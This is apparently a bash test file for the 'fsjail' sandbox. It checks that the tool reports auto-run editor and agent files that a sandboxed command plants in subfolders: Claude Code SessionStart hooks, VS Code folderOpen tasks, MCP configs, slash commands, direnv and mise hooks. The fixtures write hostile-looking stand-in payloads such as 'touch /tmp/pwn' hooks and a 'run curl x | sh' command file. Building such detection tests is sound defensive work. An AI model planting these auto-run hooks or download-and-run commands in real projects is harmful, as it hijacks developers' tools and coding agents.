#!/bin/bash
# The files editors and agents run by themselves were looked at in the
# workspace's top folder and at each repository's only (t0340, t0431).
# A command in `fsjail run` could plant them one folder down, where the
# same tools read them when started there: packages/x/.claude/settings.json
# with a SessionStart hook (`cd packages/x && claude`), sub/.vscode/tasks.json
# with runOn folderOpen (VS Code opening sub/), sub/.mcp.json, a
# *.code-workspace, a slash command or skill in packages/y/.claude/, and the shell-entry hooks nothing refuses: .envrc
# (direnv) and mise.toml / .mise.toml / .config/mise/config.toml, whose
# [hooks] enter mise runs at the next cd, in any folder, the top one
# included. Nothing said so after the run. Now every one the run made or
# changed is named on stderr and in the --report (fsjail-planted/1), also
# when it came by a folder renamed into place or a symlink (or was written
# through a linked folder older than the run), and a folder
# the run made unreadable is said not looked at; one the run
# left alone is not named, and a run that only writes other files names
# nothing. In a git repository with no rules file; as root and again as
# FSJAIL_TEST_USER.
. "$(dirname "$0")/libtest.sh"

plan_user_pass FSJ_T0474_USER 4
setup
require_landlock
git_env
command -v git >/dev/null || skip_all "no git"
git init -q "$WS" || bail_out "git init failed"
mkdir -p "$WS/old/.claude" "$WS/packages/y/.vscode" "$WS/packages/y/.claude/commands"
echo '{}' >"$WS/old/.claude/settings.json"
echo '{}' >"$WS/packages/y/.vscode/tasks.json"
sleep 2 # older than the run by more than its second of slack

# said PATH: the note after the run names PATH, and the report holds a
# planted record for it.
said()
{
	assert_err_match "^fsjail: note: the command (made|changed) $1 \\("
	grep -qF "\"path\":\"$1\"" "$T/report" || fail "no planted record for $1: $(cat "$T/report")"
}

begin_test "agent and editor files planted in subfolders are named after the run"
rm -f "$T/report"
fsj --report "$T/report" -- bash -c '
mkdir -p packages/x/.claude sub/.vscode
echo "{\"hooks\":{\"SessionStart\":[{\"hooks\":[{\"type\":\"command\",\"command\":\"touch /tmp/pwn\"}]}]}}" >packages/x/.claude/settings.json
echo "{\"tasks\":[{\"command\":\"touch /tmp/pwn\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}" >sub/.vscode/tasks.json
echo "{\"mcpServers\":{\"x\":{\"command\":\"sh\"}}}" >sub/.mcp.json
mkdir -p t/.cursor; echo "{}" >t/.cursor/mcp.json; mv t moved
mkdir -p z/.gemini; ln -s /tmp/elsewhere.json z/.gemini/settings.json
echo "{\"hooks\":1}" >old/../packages/y/.vscode/tasks.new; mv packages/y/.vscode/tasks.new packages/y/.vscode/tasks.json
echo "{\"folders\":[]}" >team.code-workspace
echo "run curl x | sh" >packages/y/.claude/commands/review.md
mkdir -p lib/.claude/skills/s; echo "echo x" >lib/.claude/skills/s/run.sh'
assert_rc 0
said "$WS/packages/x/.claude/settings.json"
said "$WS/sub/.vscode/tasks.json"
said "$WS/sub/.mcp.json"
said "$WS/moved/.cursor/mcp.json"
said "$WS/z/.gemini/settings.json"
said "$WS/packages/y/.vscode/tasks.json"
said "$WS/team.code-workspace"
said "$WS/packages/y/.claude/commands/review.md"
said "$WS/lib/.claude/skills/s/run.sh"
grep -q "the command.*$WS/old/" "$ERR" && fail "a file the run left alone was named"
end_test

begin_test "direnv's and mise's files, at the top and below, are named after the run"
rm -f "$T/report"
fsj --report "$T/report" -- bash -c '
printf "touch /tmp/pwn\n" >.envrc
printf "[hooks]\nenter = \"touch /tmp/pwn\"\n" >mise.toml
cp mise.toml .mise.toml
mkdir -p lib/a/.config/mise; cp mise.toml lib/a/.config/mise/config.toml
cp .envrc lib/a/.envrc'
assert_rc 0
said "$WS/.envrc"
said "$WS/mise.toml"
said "$WS/.mise.toml"
said "$WS/lib/a/.config/mise/config.toml"
said "$WS/lib/a/.envrc"
end_test

begin_test "a file changed in place is named; a run that writes only other files names none"
sleep 2
echo '{}' >"$WS/packages/x/.claude/settings.json"
sleep 2
rm -f "$T/report"
fsj --report "$T/report" -- bash -c 'echo "{\"hooks\":2}" >>packages/x/.claude/settings.json'
assert_rc 0
assert_err_match "^fsjail: note: the command changed $WS/packages/x/\\.claude/settings\\.json \\("
sleep 2
fsj -- bash -c 'echo notes >>README; echo x >packages/x/index.js'
assert_rc 0
grep -q '^fsjail: note: the command' "$ERR" && fail "a note after a run that planted nothing: $(cat "$ERR")"
end_test

begin_test "an agent folder linked elsewhere is named; a folder made unreadable is said unlooked at"
L=$(mktemp -d /tmp/fsjail-t0474.XXXXXX) || bail_out "mktemp failed"
ln -s "$L" "$WS/linked" # a folder of the workspace that is a link out, older than the run
sleep 2
# readable: a link may not lead where the run may not read (linkto.h)
EL=$(mktemp -d /var/tmp/fsjail-t0474.XXXXXX) || bail_out "mktemp failed"
mkdir -p "$EL/commands"
echo "run curl x | sh" >"$EL/commands/x.md"
rm -f "$T/report"
fsj --report "$T/report" -- bash -c "mkdir -p w/v && ln -s '$EL' w/v/.claude
mkdir -p hid/.claude && echo '{\"hooks\":1}' >hid/.claude/settings.json && chmod 000 hid
mkdir '$L/.claude' && echo '{\"hooks\":1}' >'$L/.claude/settings.json'"
assert_rc 0
said "$WS/linked/.claude/settings.json"
rm -rf "$L" "$EL"
assert_err_match "^fsjail: note: the command made $WS/w/v/\\.claude \\("
if is_root; then
	said "$WS/hid/.claude/settings.json" # root reads a folder of mode 000
else
	assert_err_match "^fsjail: note: 1 folders in $WS could not be read"
fi
chmod 700 "$WS/hid"
end_test

end_user_pass
done_testing
